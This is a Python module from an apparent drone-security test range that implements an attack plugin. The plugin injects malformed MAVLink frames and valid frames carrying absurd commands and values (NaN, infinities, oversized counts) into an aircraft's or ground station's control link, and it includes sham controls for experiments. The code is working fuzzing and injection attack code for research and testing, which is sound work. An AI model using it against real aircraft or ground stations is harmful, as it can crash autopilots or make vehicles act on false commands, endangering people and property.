"""Hostile MAVLink: frames that are truncated, damaged or unknown, or valid ones with absurd counts and numbers.

The published "malicious input". Chance is addressed by the link and the time, so a seed gives the same frames.

ArduPilot's simulator aborts on a floating point exception, which boards ignore, unless SIM_FLOAT_EXCEPT is 0; so the
form `numbers` can end that program.
"""

from __future__ import annotations

import math
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from hashlib import shake_128
from typing import Annotated, Final, Literal

from pydantic import BeforeValidator, Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.mavlink.injection import Injection, Sender, inject
from skyrange.attack.on_path import Repetition
from skyrange.codec.mavlink import Message, Packer
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import Schedule
from skyrange.contracts.params import Number, items
from skyrange.contracts.verdicts import Direction
from skyrange.core.chance import Chance
from skyrange.core.time import Time, from_seconds

Form = Literal["garbage", "truncated", "checksum", "length", "unknown", "mavlink1", "counts", "numbers"]
_FORMS: Final[tuple[Form, ...]] = (
    "garbage", "truncated", "checksum", "length", "unknown", "mavlink1", "counts", "numbers"
)  # fmt: skip
_UNKNOWN_ID: Final = 0xFFFFF0
"""A message id that no public dialect uses."""
_OVERHEAD: Final = 12
"""Bytes of a MAVLink 2 frame beside its payload."""
_SHORTEST: Final = _OVERHEAD + 1
_LONGEST: Final = _OVERHEAD + 255
_ABSURD: Final = (math.nan, math.inf, -math.inf, 3e38, -3e38, 1e-40)
_COMMANDS: Final = (
    mav.MAV_CMD_CONDITION_YAW, mav.MAV_CMD_DO_SET_MODE, mav.MAV_CMD_NAV_TAKEOFF, mav.MAV_CMD_SET_MESSAGE_INTERVAL,
    mav.MAV_CMD_DO_SET_ROI, mav.MAV_CMD_DO_SET_MISSION_CURRENT, mav.MAV_CMD_REQUEST_MESSAGE, 0xFFFF,
)  # fmt: skip


class HostileFrames(Injection):
    """Which frames, towards whom and how often."""

    forms: Annotated[
        tuple[Form, ...], BeforeValidator(items, json_schema_input_type=list[str]), Field(min_length=1)
    ] = Field(
        default=_FORMS,
        description="Forms, one chosen by chance for each frame: garbage (random bytes), truncated, checksum (wrong, "
        "as by another CRC_EXTRA), length (other than the header's), unknown (message id), mavlink1 (a "
        "header of version 1 before a frame of version 2), counts (65535 "
        "items and the like), numbers (NaN, infinite or 3e38).",
    )
    towards: Literal["aircraft", "station"] = Field(
        default="aircraft", description="aircraft: fwd; station: rev, in the name of the aircraft."
    )
    rate_hz: Number = Field(default=10.0, ge=0.1, le=1000, description="Frames in a second.")


@dataclass(slots=True)
class Draw:
    """Random choices for one frame, of one address of chance."""

    bits: bytes
    used: int = 0

    def below(self, most: int) -> int:
        """A whole number in 0…most-1; the bias is below most / 2³²."""
        self.used += 4
        return int.from_bytes(self.bits[self.used - 4 : self.used], "little") % most

    def pick(self, values: Sequence[float]) -> float:
        """One of the values."""
        return values[self.below(len(values))]

    def octets(self, count: int) -> bytes:
        """Random bytes."""
        return shake_128(self.bits + self.used.to_bytes(4, "little")).digest(count)


def _station_message(draw: Draw, target: int, absurd: bool) -> Message:
    """A message of an aircraft to its station."""
    if not absurd:
        return [
            mav.MAVLink_mission_current_message(0xFFFF, 0xFFFF),
            mav.MAVLink_mission_item_reached_message(0xFFFF),
            mav.MAVLink_mission_count_message(255, 190, 0xFFFF, 0),
            mav.MAVLink_mission_request_int_message(255, 190, 0xFFFF, 0),
            mav.MAVLink_param_value_message(b"\xff" * 16, 0.0, 255, 0xFFFF, 0xFFFF),
        ][draw.below(5)]
    a, b, c = (draw.pick(_ABSURD) for _ in range(3))
    return [
        mav.MAVLink_attitude_message(0xFFFFFFFF, a, b, c, a, b, c),
        mav.MAVLink_vfr_hud_message(a, b, -(2**15), 0xFFFF, c, a),
        mav.MAVLink_local_position_ned_message(0, a, b, c, a, b, c),
        mav.MAVLink_global_position_int_message(0, 2**31 - 1, -(2**31), -(2**31), 2**31 - 1, 0, 0, 0, 0xFFFF),
    ][draw.below(4)]


def _aircraft_message(draw: Draw, target: int, absurd: bool) -> Message:
    """A message of a station to an aircraft."""
    if not absurd:
        kind = draw.below(3)
        return [
            mav.MAVLink_mission_count_message(target, 1, 0xFFFF, kind),
            mav.MAVLink_mission_request_int_message(target, 1, 0xFFFF, kind),
            mav.MAVLink_mission_write_partial_list_message(target, 1, -(2**15), 2**15 - 1, kind),
            mav.MAVLink_mission_set_current_message(target, 1, 0xFFFF),
            mav.MAVLink_param_request_read_message(target, 1, b"", 2**15 - 1),
            mav.MAVLink_mission_count_message(target, 1, 0xFFFF, 77),
        ][draw.below(6)]
    a, b, c = (draw.pick(_ABSURD) for _ in range(3))
    return [
        mav.MAVLink_command_long_message(target, 1, int(draw.pick(_COMMANDS)), 255, a, b, c, a, b, c, a),
        mav.MAVLink_command_int_message(
            target, 1, 255, int(draw.pick(_COMMANDS)), 255, 255, a, b, c, a, 2**31 - 1, -(2**31), b
        ),
        mav.MAVLink_mission_item_int_message(target, 1, 0xFFFF, 255, 0xFFFF, 0, 255, a, b, c, a, -(2**31), 0, b, 0),
        mav.MAVLink_param_set_message(target, 1, b"WPNAV_SPEED", draw.pick(_ABSURD[:3]), 255),
        mav.MAVLink_set_position_target_local_ned_message(0, target, 1, 1, 0, a, b, c, a, b, c, a, b, c, a, b),
        mav.MAVLink_set_attitude_target_message(0, target, 1, 0, [a, b, c, a], a, b, c, a),
    ][draw.below(6)]


def hostile_frame(form: Form, draw: Draw, packer: Packer, target: int, message: Callable[..., Message]) -> bytes:
    """One frame of a form."""
    if form == "garbage":
        return draw.octets(_SHORTEST + draw.below(_LONGEST - _SHORTEST))
    good = packer.pack(message(draw, target, form == "numbers"))  # 14 bytes or more: no message is empty
    if form == "truncated":
        return good[: max(_SHORTEST, draw.below(len(good)))]
    if form == "checksum":
        return good[:-2] + bytes([good[-2] ^ (1 + draw.below(255)), good[-1]])
    if form == "length":
        return good[:1] + bytes([(good[1] + 1 + draw.below(254)) % 256]) + good[2:]
    if form == "unknown":
        return good[:7] + _UNKNOWN_ID.to_bytes(3, "little") + good[10:]
    if form == "mavlink1":
        return bytes([0xFE, good[1], good[4], good[5], good[6], good[7]]) + good[10:] + draw.octets(4)
    return good


def harmless_frame(size: int, packer: Packer) -> bytes:
    """A valid frame of `size` bytes, 13 to 267, that no autopilot or station acts on: ENCAPSULATED_DATA."""
    data = [0] * 253
    length = size - _OVERHEAD
    if length > 2:
        data[length - 3] = 1
        return packer.pack(mav.MAVLink_encapsulated_data_message(0, data))
    return packer.pack(mav.MAVLink_encapsulated_data_message(1 if length == 1 else 0x100, data))


@dataclass(slots=True)
class HostileSource:
    """A source of hostile frames; in a sham, of harmless ones of the same sizes."""

    sender: Sender
    schedule: Schedule
    chance: Chance
    stream: str
    forms: tuple[Form, ...]
    to_station: bool
    period_ns: Time
    sham: bool
    clock: Repetition = field(init=False)

    def __post_init__(self) -> None:
        self.clock = Repetition(self.schedule, self.period_ns)

    @property
    def due(self) -> Time | None:
        """When the next frame is due."""
        return self.clock.due

    def see(self, now: Time, frame: Frame) -> None:
        """Learn who the station is."""
        self.sender.see(frame)

    def make(self, now: Time) -> Sequence[tuple[Direction, bytes]]:
        """One frame."""
        if not self.clock.take(now):
            return []
        numbers = self.chance.uniform4(self.stream, self.sender.address, now)
        draw = Draw(shake_128(repr(numbers).encode()).digest(256))
        form = self.forms[draw.below(len(self.forms))]
        # sizes depend on the addressee only where it is 0, so a sham's frame has the size of the attack's
        packer = Packer(self.sender.target, self.sender.component) if self.to_station else self.sender.packer
        message = _station_message if self.to_station else _aircraft_message
        payload = hostile_frame(form, draw, packer, self.sender.target, message)
        if self.sham:
            payload = harmless_frame(len(payload), packer)
        return [("rev" if self.to_station else "fwd", payload)]


def make(params: HostileFrames, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    arguments = (
        context.schedule, context.chance, f"{context.id}.malformed", params.forms, params.towards == "station",
        from_seconds(1.0 / params.rate_hz), context.sham,
    )  # fmt: skip
    return Attack(taps=inject(params, context, HostileSource, *arguments))


MALFORMED = AttackPlugin(
    HostileFrames,
    make,
    "Sends malformed MAVLink frames, and valid ones with absurd counts and numbers.",
    technique="T0819",
    surface=("gcs", "log", "autopilot"),
    persists="flight",
    effect="parsers reject and count hostile frames, or act on absurd values",
    threat=ThreatModel(
        knowledge="the protocol, and system ids",
        position="on the network of the control link, or on board",
        equipment="a computer with a fuzzer for MAVLink",
        budget="rate_hz frames of at most 267 bytes in a second",
    ),
    controls=Controls(
        load="the sham: valid frames of the same sizes that nobody acts on",
        content="the form 'unknown' alone, which every receiver ignores",
        placement="the same frames on the link of another aircraft",
    ),
)
